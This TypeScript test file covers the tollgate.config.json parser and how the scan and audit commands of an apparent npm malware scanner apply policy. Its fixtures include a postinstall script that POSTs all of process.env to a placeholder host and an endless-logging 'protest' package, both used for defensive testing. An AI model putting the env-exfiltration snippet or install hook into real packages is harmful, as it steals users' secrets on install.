// One policy for every command: the tollgate.config.json parser (every mistake at once, each at its
// line and column) and `scan` / `audit` applying the file like `check` does (allow, failOn, rules,
// ignoreDev), end to end against a loopback registry.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ConfigError, findConfigFile, parseConfig } from '../src/check/config.js';
import type { JsonReport } from '../src/report/json.js';
import { startRegistry, type FixturePackage, type TestRegistry } from './helpers/registry.js';
import { runCli } from './helpers/run-cli.js';

const RULES = new Set(['install-scripts', 'network', 'sabotage']);

function problemsOf(text: string): string[] {
  try {
    parseConfig('tollgate.config.json', text, RULES);
  } catch (err) {
    expect(err).toBeInstanceOf(ConfigError);
    return (err as Error).message.split('\n');
  }
  throw new Error('the config was accepted');
}

describe('config parser: every mistake at once, at its line and column', () => {
  test('three mistakes in one file are three lines, in file order, each file:line:column', () => {
    const text = `{
  "failOn": "clean",
  "allow": [
    { "package": "left-pad@1.3.0", "reason": "reviewed in #7" },
    { "package": "lodash@^4", "reason": "reviewed" },
    { "package": "ms@2.1.3", "reason": "ok", "expires": "2030-02-30" }
  ]
}`;
    expect(problemsOf(text)).toEqual([
      'tollgate.config.json:2:13: "failOn" must be one of "malicious", "suspicious", "never" (got "clean")',
      'tollgate.config.json:5:18: allow[1]: "package": "lodash@^4" is not pinned to one exact version: write name@1.2.3, e.g. "lodash@1.2.3"; allows are per version, so the next release is judged again',
      'tollgate.config.json:6:57: allow[2]: "expires" must be a date as YYYY-MM-DD (got "2030-02-30")',
    ]);
  });

  test('a syntax error has its line and column, and is reported with the other mistakes', () => {
    const text = '{\n  "allow": [\n    { "package": "a@1", "reason": "x", },\n    { "package": "b@1.0.0" }\n  ],\n  "ruls": {}\n}\n';
    const lines = problemsOf(text);
    expect(lines).toEqual([
      'tollgate.config.json:3:40: not valid JSON: a key in double quotes is expected here (JSON allows no comma before "}")',
      'tollgate.config.json:4:5: allow[1] (b@1.0.0): "reason" is required: say who reviewed what, for the next reader',
      'tollgate.config.json:6:3: unknown key "ruls"; did you mean "rules"? (the keys are allow, failOn, ignoreDev, rules)',
    ]);
    // The range on the line that is not valid JSON is left to the next run: the parser only guessed there.
    expect(problemsOf('{"allow": [\n')).toEqual(['tollgate.config.json:2:1: not valid JSON: a "]" is missing: an array is not closed']);
    expect(problemsOf("{ 'failOn': 'never' }")).toEqual(['tollgate.config.json:1:3: not valid JSON: keys and strings take double quotes, and true, false and null are lowercase']);
  });

  test('a key given twice is an error (JSON.parse would silently keep the last one)', () => {
    expect(problemsOf('{\n  "failOn": "suspicious",\n  "failOn": "never"\n}')).toEqual(['tollgate.config.json:3:3: "failOn" appears twice; JSON keeps only the last one, so merge them']);
  });

  test('an unknown rule is named with the nearest known one', () => {
    expect(problemsOf('{"rules": {"netwrok": "off"}, "allow": [{"package": "a@1.0.0", "reason": "r", "rule": "sabotag"}]}')).toEqual([
      'tollgate.config.json:1:12: "rules": no rule "netwrok"; did you mean "network"? (`tollgate rules` lists them)',
      'tollgate.config.json:1:87: allow[0]: "rule": no rule "sabotag"; did you mean "sabotage"? (`tollgate rules` lists them)',
    ]);
  });

  test('hostile shapes end in a bounded error: 1 MiB of brackets (the parser recurses), thousands of mistakes', () => {
    const started = performance.now();
    expect(problemsOf('['.repeat(1 << 20))).toEqual(['tollgate.config.json:1:17: nested more than 16 levels deep; a policy is {"allow": [], "failOn": "malicious"} (see `tollgate check --help`)']);
    const many = problemsOf(JSON.stringify({ allow: Array.from({ length: 5000 }, (_, i) => ({ package: `p${i}@latest`, reason: 'x' })) }));
    expect(many).toHaveLength(41);
    expect(many[40]).toBe('tollgate.config.json: … and 4960 more problems');
    expect(performance.now() - started).toBeLessThan(5000);
  });

  test('a valid file still parses (BOM and $schema allowed)', () => {
    const c = parseConfig('tollgate.config.json', '\uFEFF{"$schema": "x", "failOn": "never", "allow": [{"package": "@s/p@1.0.0", "reason": " ok "}]}', RULES);
    expect(c).toMatchObject({ failOn: 'never', allow: [{ name: '@s/p', version: '1.0.0', reason: 'ok', index: 0 }] });
  });
});

describe('findConfigFile: the nearest policy from a folder up to its repository root', () => {
  test('found in a parent inside the repository; never above the repository, nor in a parent outside one', () => {
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tollgate-find-'));
    try {
      const repo = path.join(tmp, 'outer', 'repo');
      const deep = path.join(repo, 'packages', 'api');
      fs.mkdirSync(deep, { recursive: true });
      fs.mkdirSync(path.join(repo, '.git'));
      fs.writeFileSync(path.join(tmp, 'outer', 'tollgate.config.json'), '{}');
      expect(findConfigFile(deep)).toBeUndefined();
      fs.writeFileSync(path.join(repo, 'tollgate.config.json'), '{}');
      expect(findConfigFile(deep)).toBe(path.join(repo, 'tollgate.config.json'));
      fs.writeFileSync(path.join(deep, 'tollgate.config.json'), '{}');
      expect(findConfigFile(deep)).toBe(path.join(deep, 'tollgate.config.json'));
      // Outside a repository only the folder itself counts: outer/ holds a file, plain/ does not.
      const plain = path.join(tmp, 'outer', 'plain');
      fs.mkdirSync(plain);
      expect(findConfigFile(plain)).toBeUndefined();
    } finally {
      fs.rmSync(tmp, { recursive: true, force: true });
    }
  });
});

// --- scan and audit apply the same policy ---------------------------------------------------------

const pj = (name: string, version: string, extra: object = {}) => JSON.stringify({ name, version, main: 'index.js', ...extra });
/** A fixture package: its manifest (with `scripts`) and files. Inert: hosts are under .invalid and nothing here is run. */
const fixture = (name: string, version: string, scripts: Record<string, string>, files: Record<string, string>): FixturePackage => ({ name, version, files: { 'package.json': pj(name, version, { scripts }), ...files } });
const SENDS_ENV = "const https = require('https');\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(JSON.stringify(process.env));\n";
const ENDLESS_LOG = "const msg = 'LIBERTY';\nfor (let i = 666; i < Infinity; i++) {\n  console.log(msg + i);\n}\nmodule.exports = {};\n";
const FIXTURES: FixturePackage[] = [
  fixture('env-taker', '2.3.1', { postinstall: 'node setup.js' }, { 'index.js': 'module.exports = {};\n', 'setup.js': SENDS_ENV }),
  fixture('env-taker', '2.3.2', { postinstall: 'node setup.js' }, { 'index.js': 'module.exports = {};\n', 'setup.js': SENDS_ENV }),
  fixture('loop-protest', '6.6.6', {}, { 'index.js': ENDLESS_LOG }),
  fixture('plain-lib', '1.0.0', {}, { 'index.js': 'module.exports = (a, b) => a + b;\n' }),
];

const ROOT = path.resolve(import.meta.dirname, '..');
const validateReport = new Ajv2020({ allErrors: true, strict: true }).compile(JSON.parse(fs.readFileSync(path.join(ROOT, 'schema/report.schema.json'), 'utf8')) as object);

let registry: TestRegistry;
let tmp: string;
const savedCache = process.env.TOLLGATE_CACHE_DIR;

beforeAll(async () => {
  tmp = await fs.promises.mkdtemp(path.join(os.tmpdir(), 'tollgate-policy-'));
  process.env.TOLLGATE_CACHE_DIR = path.join(tmp, 'tollgate-cache');
  registry = await startRegistry(FIXTURES);
});

afterAll(async () => {
  if (savedCache === undefined) delete process.env.TOLLGATE_CACHE_DIR;
  else process.env.TOLLGATE_CACHE_DIR = savedCache;
  await registry?.close();
  if (tmp) await fs.promises.rm(tmp, { recursive: true, force: true });
});

function writeConfig(name: string, config: unknown): string {
  const file = path.join(tmp, name, 'tollgate.config.json');
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, typeof config === 'string' ? config : JSON.stringify(config, null, 2));
  return file;
}

type Pkg = JsonReport['packages'][number] & { policy: { before: { verdict: string }; allowed: { reason: string } | null; suppressed: unknown[] } };
async function scan(targets: string[], extra: string[]) {
  const r = await runCli(['scan', ...targets, '--quiet', '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), ...extra]);
  return r;
}
async function scanJson(targets: string[], extra: string[]) {
  const r = await scan(targets, ['--json', ...extra]);
  const report = JSON.parse(r.stdout) as JsonReport & { packages: Pkg[] };
  expect(validateReport(report), JSON.stringify(validateReport.errors)).toBe(true);
  const byName = (name: string, version?: string) => report.packages.find((p) => p.name === name && (!version || p.version === version))!;
  return { ...r, report, byName };
}

describe('scan applies tollgate.config.json', () => {
  test('a version-pinned allow: that version is listed as allowed with its reason and passes; the next version still fails', async () => {
    const config = writeConfig('allow', { allow: [{ package: 'env-taker@2.3.1', reason: 'reviewed by @alice in #12' }] });
    const allowed = await scanJson(['env-taker@2.3.1', 'plain-lib'], ['--config', config]);
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(allowed.byName('env-taker')).toMatchObject({ verdict: 'malicious', policy: { allowed: { reason: 'reviewed by @alice in #12' } } });
    expect(allowed.byName('plain-lib').policy.allowed).toBeNull();
    const human = await scan(['env-taker@2.3.1'], ['--config', config, '--no-color']);
    expect(human.code).toBe(0);
    expect(human.stdout).toMatch(/MALICIOUS .*env-taker@2\.3\.1/);
    expect(human.stdout).toMatch(/allowed by config \(allow\[0\]\): reviewed by @alice in #12; does not fail the gate/);
    const next = await scanJson(['env-taker@2.3.2'], ['--config', config]);
    expect(next.code).toBe(1);
    expect(next.byName('env-taker').policy.allowed).toBeNull();
  });

  test('failOn comes from the config, --fail-on overrides it; rules off switch a rule off', async () => {
    const strict = writeConfig('strict', { failOn: 'suspicious' });
    expect((await scanJson(['loop-protest'], [])).code).toBe(0);
    const failed = await scanJson(['loop-protest'], ['--config', strict]);
    expect(failed.code).toBe(1);
    expect(failed.byName('loop-protest').verdict).toBe('suspicious');
    expect((await scanJson(['loop-protest'], ['--config', strict, '--fail-on', 'malicious'])).code).toBe(0);
    const off = writeConfig('rules-off', { failOn: 'suspicious', rules: { sabotage: 'off' } });
    const quiet = await scanJson(['loop-protest'], ['--config', off]);
    expect(quiet.byName('loop-protest').findings.map((f) => f.rule)).not.toContain('sabotage');
    expect(quiet.code).toBe(0);
  });

  test('without --config, the nearest tollgate.config.json from the current folder up to its repository root applies', async () => {
    const repo = path.join(tmp, 'repo');
    fs.mkdirSync(path.join(repo, '.git'), { recursive: true });
    fs.mkdirSync(path.join(repo, 'sub'), { recursive: true });
    fs.writeFileSync(path.join(repo, 'tollgate.config.json'), JSON.stringify({ failOn: 'suspicious' }));
    const cwd = process.cwd();
    process.chdir(path.join(repo, 'sub'));
    try {
      const r = await runCli(['scan', 'loop-protest', '--json', '--registry', registry.url, '--cache', path.join(tmp, 'downloads')]);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`tollgate: policy from ${path.join(repo, 'tollgate.config.json')}: 0 allow entries, failOn suspicious`);
    } finally {
      process.chdir(cwd);
    }
  });

  test('a malformed config is exit 2, naming the file with every problem at its line and column; nothing is scanned', async () => {
    const bad = writeConfig('bad', '{\n  "alow": [],\n  "failOn": "sometimes"\n}\n');
    const before = registry.requests.length;
    const r = await scan(['plain-lib'], ['--config', bad]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(
      `tollgate: ${bad}:2:3: unknown key "alow"; did you mean "allow"? (the keys are allow, failOn, ignoreDev, rules)\n${bad}:3:13: "failOn" must be one of "malicious", "suspicious", "never" (got "sometimes")\n`,
    );
    expect(registry.requests.length).toBe(before);
    const missing = await scan(['plain-lib'], ['--config', path.join(tmp, 'nope.json')]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/nope\.json: cannot be read/);
  });
});

describe('audit applies tollgate.config.json from the lockfile folder', () => {
  function writeProject(name: string): string {
    const dir = path.join(tmp, name);
    fs.mkdirSync(dir, { recursive: true });
    const reg = (pkg: string, version: string, extra: object = {}) => ({ version, resolved: registry.tarballUrl(pkg, version), integrity: registry.integrityOf(pkg, version), ...extra });
    const lock = {
      name,
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name, version: '1.0.0', dependencies: { 'env-taker': '2.3.1', 'plain-lib': '1.0.0' }, devDependencies: { 'loop-protest': '6.6.6' } },
        'node_modules/env-taker': reg('env-taker', '2.3.1', { hasInstallScript: true }),
        'node_modules/plain-lib': reg('plain-lib', '1.0.0'),
        'node_modules/loop-protest': reg('loop-protest', '6.6.6', { dev: true }),
      },
    };
    fs.writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify(lock, null, 2));
    fs.writeFileSync(path.join(dir, 'package.json'), pj(name, '1.0.0'));
    return dir;
  }
  const audit = (dir: string, extra: string[] = []) => runCli(['audit', dir, '--quiet', '--no-cache', '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), ...extra]);

  test('allow, failOn and ignoreDev from the project folder; an allowed package is listed with its reason, not hidden', async () => {
    const dir = writeProject('app');
    const none = await audit(dir, ['--json']);
    expect(none.code).toBe(1);
    fs.writeFileSync(path.join(dir, 'tollgate.config.json'), JSON.stringify({ failOn: 'suspicious', allow: [{ package: 'env-taker@2.3.1', reason: 'postinstall reviewed in #3' }] }));
    // loop-protest (dev) is suspicious: failOn suspicious fails on it.
    const strict = await audit(dir, ['--json']);
    expect(strict.code).toBe(1);
    const report = JSON.parse(strict.stdout) as { packages: Pkg[] };
    expect(validateReport(report), JSON.stringify(validateReport.errors)).toBe(true);
    expect(report.packages.find((p) => p.name === 'env-taker')).toMatchObject({ verdict: 'malicious', policy: { allowed: { reason: 'postinstall reviewed in #3' } } });
    expect(report.packages.find((p) => p.name === 'loop-protest')).toMatchObject({ verdict: 'suspicious', policy: { allowed: null } });
    // ignoreDev leaves the dev-only package out; the allowed one passes.
    fs.writeFileSync(path.join(dir, 'tollgate.config.json'), JSON.stringify({ failOn: 'suspicious', ignoreDev: true, allow: [{ package: 'env-taker@2.3.1', reason: 'postinstall reviewed in #3' }] }));
    const human = await audit(dir, ['--no-color']);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toMatch(/MALICIOUS .*env-taker@2\.3\.1/);
    expect(human.stdout).toMatch(/allowed by config \(allow\[0\]\): postinstall reviewed in #3/);
    expect(human.stdout).not.toMatch(/loop-protest/);
    // A rule-level allow removes that rule's findings and scores again.
    fs.writeFileSync(path.join(dir, 'tollgate.config.json'), JSON.stringify({ ignoreDev: true, allow: [{ package: 'env-taker@2.3.1', rule: 'install-scripts', reason: 'reviewed' }] }));
    const rule = JSON.parse((await audit(dir, ['--json'])).stdout) as { packages: Pkg[] };
    const taker = rule.packages.find((p) => p.name === 'env-taker')!;
    expect(taker.findings.map((f) => f.rule)).not.toContain('install-scripts');
    expect(taker.policy.suppressed).toHaveLength(1);
  });

  test('a malformed config in the project is exit 2 naming the file, line and column', async () => {
    const dir = writeProject('broken');
    const file = path.join(dir, 'tollgate.config.json');
    fs.writeFileSync(file, '{\n  "allow": [\n    { "package": "env-taker", "reason": "" }\n  ]\n}\n');
    const r = await audit(dir);
    expect(r.code).toBe(2);
    expect(r.stderr.split('\n').filter(Boolean)).toEqual([
      `tollgate: ${file}:3:18: allow[0]: "package": "env-taker" needs the exact version that was reviewed, as name@1.2.3, e.g. "env-taker@1.2.3"`,
      `${file}:3:41: allow[0] (env-taker): "reason" is required: say who reviewed what, for the next reader (got "")`,
    ]);
  });
});
